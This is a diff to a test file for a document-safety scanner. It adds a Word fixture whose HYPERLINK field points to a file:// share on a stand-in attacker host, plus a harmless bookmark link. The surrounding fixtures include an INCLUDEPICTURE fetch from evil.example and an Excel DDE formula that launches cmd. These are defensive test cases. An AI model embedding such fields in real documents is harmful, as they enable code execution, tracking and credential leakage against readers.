@@ -587,6 +587,9 @@ _RUNNING_OR_FETCHING = {
     "word-includepicture": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>",
                             b'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "https://evil.example/seuranta.png" \\d \'>'
                             b"<w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>"),
+    "word-hyperlink-field-to-share": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>",
+                                      b'<w:p><w:fldSimple w:instr=\' HYPERLINK "file://evil.example/jako/x.docx" \'>'
+                                      b"<w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>"),
     "excel-dde-formula": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
                           b"""<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c>"""),
     "excel-webservice": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
@@ -631,7 +634,8 @@ def test_ordinary_fields_and_formulas_are_not_refused(fixture_content):
     links to web pages and to a place in the document."""
     docx = _rezipped("docx", "koe/ohje.docx", _in_part("word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
                      + b"<w:r><w:instrText> PAGE </w:instrText></w:r>" + _FIELD_END + b"</w:p>"
-                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK "https://www.example.org/" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'))
+                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK "https://www.example.org/" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'
+                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK \\l "Otsikko" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'))
     xlsx = _rezipped("xlsx", "koe/kysely.xlsx", _in_part("xl/worksheets/sheet1.xml", b"</is></c>",
                      b"""<c r="B1"><f>SUM('Vastaukset | 2020'!A1:A3)&amp;"a|b"</f><v>0</v></c>"""))
     odt = _rezipped("odt", _ODF_DOCUMENT, _in_part("content.xml", b"<office:text>",
